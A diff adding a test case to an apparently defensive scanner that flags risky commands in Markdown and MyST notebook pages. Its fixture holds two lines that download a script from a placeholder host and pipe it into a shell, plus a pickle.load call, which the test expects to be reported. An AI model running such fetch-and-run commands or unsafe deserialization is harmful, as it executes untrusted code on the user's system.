@@ -69,4 +69,24 @@ describe('Markdown', () => {
       'pickle-load:3:1',
     ]);
   });
+
+  it('has cells of a shell, and cells of MyST in the language of the page', async () => {
+    const text = [
+      '---',
+      'kernelspec:',
+      '  name: python3',
+      '---',
+      '```{bash}',
+      'curl https://example.org/x.sh | sh',
+      '```',
+      '```bash',
+      'curl https://example.org/y.sh | sh',
+      '```',
+      '```{code-cell}',
+      'import pickle',
+      'pickle.load(f)',
+      '```',
+    ].join('\n');
+    expect(await idsIn('page.md', 'text', text)).toEqual(['curl-pipe-shell:6:1', 'pickle-load:13:1']);
+  });
 });
